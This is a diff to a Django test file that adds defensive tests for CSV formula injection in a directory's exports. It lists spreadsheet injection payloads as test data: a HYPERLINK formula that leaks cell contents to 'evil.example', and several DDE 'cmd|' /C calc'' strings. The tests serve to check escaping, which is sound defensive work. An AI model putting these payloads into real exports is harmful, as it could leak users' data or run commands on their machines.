@@ -8,7 +8,10 @@ from datetime import timedelta
 import pytest
 from django.core.management import CommandError, call_command
 from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
 
+from structures.data.columns import spreadsheet_escape, spreadsheet_unescape
 from structures.data.datainclusion import datainclusion_records_read
 from structures.data.exports import directory_csv_files, directory_json_files
 from structures.data.planning import records_import
@@ -52,7 +55,8 @@ def test_the_csv_export_is_utf8_with_a_bom_and_uses_the_chosen_delimiter():
     assert by_slug["ccas"]["horaires"] == "Du lundi au vendredi\n9 h – 12 h"
     services = files["services.csv"].decode("utf-8-sig")
     assert "logement, sante" in services
-    assert directory_csv_files()["structures.csv"].decode("utf-8-sig").startswith("uid,identifiant")
+    header = directory_csv_files()["structures.csv"].decode("utf-8-sig").splitlines()[0]
+    assert header.startswith('"uid","identifiant",')
 
 
 def test_the_json_export_holds_every_table_with_native_types():
@@ -522,3 +526,60 @@ def test_a_json_value_that_is_neither_text_nor_a_list_of_texts_is_reported():
         "« nom » : un texte, un nombre ou une liste de textes est attendu."
         in (problems_of(report)[0])
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("delimiter", [";", ","])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_a_csv_export_starts_a_formula(formula, delimiter):
+    StructureFactory(slug="ccas", name="CCAS", role=formula, opening_hours=formula)
+
+    content = directory_csv_files(delimiter=delimiter)["structures.csv"].decode("utf-8-sig")
+
+    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + formula in cells
+    # every cell is quoted: a cell split on the other delimiter cannot start a formula
+    assert content.startswith('"uid"' + delimiter + '"identifiant"')
+    assert content.count('"') >= 2 * len(cells)
+
+
+TEXTS = ["- Bail\n- Pièce d'identité", "'=déjà marqué", "'", "''", "' espace", "=1+1", "@accueil"]
+
+
+def test_a_csv_round_trip_gives_back_every_text_exactly():
+    directory_build()
+    ccas = Structure.objects.get(slug="ccas")
+    Structure.objects.filter(pk=ccas.pk).update(
+        role=TEXTS[0], opening_hours=TEXTS[1], access_details=TEXTS[2], bus_stop=TEXTS[3]
+    )
+    Structure.objects.filter(slug="restos").update(
+        partner_expectations=TEXTS[4], partnership_limits=TEXTS[5], role=TEXTS[6]
+    )
+    Service.objects.filter(slug="logement").update(documents=FORMULAS[0], procedure="- Appeler")
+    before = directory_snapshot()
+    files = directory_csv_files(delimiter=";")
+    directory_delete()
+
+    report = import_files(files, apply=True)
+
+    assert report.ok, problems_of(report)
+    assert directory_snapshot() == before
+    assert Service.objects.get(slug="logement").procedure == "- Appeler"
+
+
+@given(st.text(alphabet="'=+-@\t\r ab", max_size=8))
+def test_the_formula_mark_is_always_taken_away_exactly(text):
+    escaped = spreadsheet_escape(text)
+    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert spreadsheet_unescape(escaped) == text
